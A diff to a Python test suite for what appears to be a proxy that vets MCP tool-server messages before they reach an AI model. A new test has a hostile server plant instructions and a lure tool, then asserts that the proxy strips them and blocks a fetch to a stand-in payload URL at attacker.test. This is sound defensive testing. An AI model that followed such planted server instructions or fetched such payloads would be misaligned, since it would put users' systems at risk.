@@ -56,9 +56,9 @@ class ServerMessages(unittest.TestCase):
         self.policy = self.dir / "toolvet.toml"
         self.policy.write_text(POLICY.format(plugins=PLUGINS))
 
-    def proxy(self) -> Raw:
+    def proxy(self, env: dict | None = None) -> Raw:
         server = [sys.executable, str(HERE / "hostile_server.py")]
-        p = Raw(self.policy, self.calls, server, {"HOSTILE_LOG": str(self.log)})
+        p = Raw(self.policy, self.calls, server, {"HOSTILE_LOG": str(self.log), **(env or {})})
         self.addCleanup(lambda: p.proc.poll() is None and p.proc.kill())
         return p
 
@@ -86,6 +86,36 @@ class ServerMessages(unittest.TestCase):
         self.assertNotIn("result", refused)
         self.assertIn("toolvet passes no task results", refused["error"]["message"])
         self.assertFalse([m for m in self.received() if m.get("method") == "tasks/result"])
+        p.close()
+
+    def test_server_text_outside_results_is_vetted_as_a_result(self):
+        # Review s29 F4: the `initialize` instructions and the tool list
+        # reached the model unvetted. Now what the result checks withhold
+        # is left out, and the destination it named is the run's label.
+        self.policy.write_text(POLICY.format(plugins=PLUGINS) + f"""
+[[check]]
+name = "injection"
+plugin = "{PLUGINS}/injection_guard.wasm"
+""")
+        p = self.proxy({"HOSTILE_LURE": "1"})
+        p.send({"jsonrpc": "2.0", "id": "init", "method": "initialize", "params": {
+            "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "raw", "version": "1"}}})
+        init = p.until(lambda m: m.get("id") == "init")[-1]
+        self.assertNotIn("instructions", init["result"])
+        self.assertEqual(init["result"]["serverInfo"], {"name": "hostile", "version": "1"})
+        p.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
+        p.send({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}})
+        listed = p.until(lambda m: m.get("id") == 1)[-1]
+        names = [t["name"] for t in listed["result"]["tools"]]
+        self.assertNotIn("lure", names)
+        self.assertIn("fetch", names)
+        self.assertNotIn("attacker", json.dumps(listed))
+        p.send({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
+                "params": {"name": "fetch", "arguments": {"url": "https://files.attacker.test/payload.sh"}}})
+        denied = p.until(lambda m: m.get("id") == 2)[-1]
+        self.assertTrue(denied["result"]["isError"], denied)
+        self.assertIn("injection.content-chosen-destination", denied["result"]["content"][0]["text"])
+        self.assertFalse([c for c in map(json.loads, self.calls.read_text().splitlines()) if c["tool"] == "fetch"])
         p.close()
 
     def test_answers_a_client_could_read_otherwise_are_errors_for_their_id(self):
@@ -159,9 +189,9 @@ class HttpServerMessages(ServerMessages):
     """The same over Streamable HTTP: the proxy in front of hostile_server.py
     served over HTTP, driven with raw POSTs."""
 
-    def proxy(self):
+    def proxy(self, env: dict | None = None):
         port = free_port()
-        env = {**os.environ, "MCP_CALL_LOG": str(self.calls), "HOSTILE_LOG": str(self.log)}
+        env = {**os.environ, "MCP_CALL_LOG": str(self.calls), "HOSTILE_LOG": str(self.log), **(env or {})}
         server = subprocess.Popen([sys.executable, str(HERE / "hostile_server.py"), "http", str(port)],
                                   env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         self.addCleanup(lambda: (server.kill(), server.wait()))
